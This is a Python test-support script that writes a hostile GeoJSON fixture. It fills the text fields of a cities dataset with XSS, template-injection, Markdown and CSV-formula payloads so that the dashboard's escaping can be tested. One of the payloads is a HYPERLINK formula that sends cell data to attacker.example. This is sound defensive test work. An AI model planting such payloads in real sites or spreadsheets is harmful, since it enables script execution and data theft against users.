"""Build the hostile dataset: the shipped cities with an attack in every text field.

Run `python tests/support/hostile.py` to rewrite tests/fixtures/hostile.geojson; then try it with
`INNOMAP_DATA=tests/fixtures/hostile.geojson python3 dev.py dashboard`.
"""

from __future__ import annotations

import json
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
FIXTURE = ROOT / "tests" / "fixtures" / "hostile.geojson"
LANGS = ("fi", "sv", "en")

# Each payload attacks one layer: HTML, attributes, JS template literals, Jinja/Markdown, CSV.
PAYLOADS = (
    '<script>window.__pwned=1;alert("script")</script>',
    "<img src=x onerror=\"window.__pwned=1;alert('img')\">",
    '" onmouseover="window.__pwned=1" data-x="',
    "' autofocus onfocus='window.__pwned=1' x='",
    "</div></dd></dl></p><b>closed tags</b><div>",
    "`${window.__pwned=1}` {{7*7}} {% raw %} \\u0041",
    "javascript:window.__pwned=1//",
    "[link](javascript:window.__pwned=1) ![img](http://127.0.0.1:9/x.png) :red[red] $x$",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def payload(index: int, field: str) -> str:
    """Return the payload for a feature's field: distinct per feature, so each can be found."""
    return f"{PAYLOADS[index % len(PAYLOADS)]} #{index}-{field}"


def build(collection: dict) -> dict:
    """Return a copy of the cities collection with hostile text everywhere text is allowed."""
    data = json.loads(json.dumps(collection))
    data["metadata"]["source"]["title"] = PAYLOADS[7]
    data["metadata"]["source"]["publisher"] = {lang: PAYLOADS[0] for lang in LANGS}
    for index, feature in enumerate(data["features"]):
        props = feature["properties"]
        for field in ("name", "intermediate_body", "priorities"):
            props[field] = {lang: payload(index + offset, f"{field}.{lang}")
                            for offset, lang in enumerate(LANGS)}
        props["maakunta"]["name"] = {lang: payload(index + 3, f"maakunta.{lang}")
                                     for lang in LANGS}
    return data


def main() -> None:
    """Write the fixture next to the tests."""
    shipped = json.loads((ROOT / "data" / "cities.geojson").read_text(encoding="utf-8"))
    FIXTURE.write_text(json.dumps(build(shipped), ensure_ascii=False, indent=2) + "\n",
                       encoding="utf-8")


if __name__ == "__main__":
    main()
